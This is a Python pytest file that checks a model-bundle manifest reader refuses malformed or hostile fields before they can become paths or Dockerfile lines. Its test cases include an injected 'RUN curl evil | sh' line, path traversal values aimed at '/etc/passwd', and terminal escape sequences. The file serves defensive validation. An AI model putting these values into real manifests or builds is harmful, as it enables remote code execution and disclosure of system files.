"""What the builder's commands take from a bundle that somebody else made: nothing that leads out of it."""

import json
from pathlib import Path
from typing import Any

import pytest

from layer.bundle import manifest
from layer.bundle.records import as_json
from layer.errors import VerifyError
from tests.unit.manifests import model

TARGET = {"python": "3.13", "architecture": "x86_64", "package": "image"}
SOURCE = {"repo": "acme/tiny", "revision": "a" * 40, "roles": ["weights"], "license": "mit"}
MODEL = {**as_json(model("acme/tiny", engine="torch", precision="fp32")), "sources": [SOURCE]}
FILE = {"path": "models/acme--tiny/hub/x", "size": 1, "sha256": "0" * 64}


def write(bundle: Path, **changed: Any) -> Path:
    data = {
        "schema": manifest.SCHEMA,
        "created_at": "now",
        "versions": {},
        "target": TARGET,
        "models": [MODEL],
        "files": [FILE],
        **changed,
    }
    (bundle / "manifest.json").write_text(json.dumps(data))
    return bundle


def test_a_sound_manifest_is_read(tmp_path: Path) -> None:
    assert as_json(manifest.read(write(tmp_path)).models) == [MODEL]


@pytest.mark.parametrize(
    ("changed", "says"),
    [
        ({"target": {**TARGET, "python": "3.13\nRUN curl evil | sh"}}, "not a version of Python"),
        ({"target": {**TARGET, "architecture": "../x"}}, "architecture = '../x': one of x86_64, arm64"),
        ({"target": {**TARGET, "package": "zip"}}, "package = 'zip': one of image, layer"),
        ({"target": None}, "damaged"),
        ({"models": {}}, r"'models': Input should be a valid (array|list)"),
        ({"models": []}, "it names no model"),
        ({"models": [{**MODEL, "slug": "../../etc"}]}, "is a path, not the name of a file"),
        ({"models": [{**MODEL, "engine": "../x"}]}, "engine = '../x'"),
        ({"models": [{**MODEL, "engine": "auto"}]}, "engine = 'auto'"),
        ({"models": [{**MODEL, "id": "\x1b[2J"}]}, "cannot be printed"),
        ({"models": [{**MODEL, "sources": [{**SOURCE, "repo": "../../x"}]}]}, "is not a repository id"),
        ({"models": [{**MODEL, "sources": [{**SOURCE, "revision": "../../x"}]}]}, "is not a commit"),
        ({"models": [{**MODEL, "sources": [{**SOURCE, "license": "\x1b]0;x"}]}]}, "cannot be printed"),
        ({"files": [{**FILE, "path": "../../../etc/passwd"}]}, "not a relative path|not a file name"),
        ({"files": [{**FILE, "path": "/etc/passwd"}]}, "not a relative path|not a file name"),
        ({"files": [{**FILE, "sha256": "x"}]}, "is not a sha256"),
        ({"files": [{**FILE, "size": -1}]}, "is not a size"),
        ({"files": [{**FILE, "size": 10**4000}]}, "is not a size"),
        ({"files": [{**FILE, "size": True}]}, "'files.0.size': Input should be a valid integer"),
        ({"models": [{**MODEL, "golden": "x"}]}, "'models.0.golden': Input should be an object"),
        ({"versions": {"\x1b[2J": "1"}}, "cannot be printed"),
        ({"files": [7]}, "damaged"),
        ({"schema": "\x1b[2J"}, "has schema"),
    ],
    ids=range(23),
)
def test_what_would_become_a_path_or_a_line_of_a_dockerfile_is_refused(
    tmp_path: Path, changed: dict[str, Any], says: str
) -> None:
    with pytest.raises(VerifyError, match=says) as caught:
        manifest.read(write(tmp_path, **changed))
    assert str(caught.value).isprintable()


def test_the_manifest_in_the_place_of_its_bundle_is_not_called_damaged(tmp_path: Path) -> None:
    path = write(tmp_path) / "manifest.json"
    with pytest.raises(VerifyError, match=r"manifest\.json is a file: name the bundle's directory") as caught:
        manifest.read(path)
    assert "damaged" not in str(caught.value)
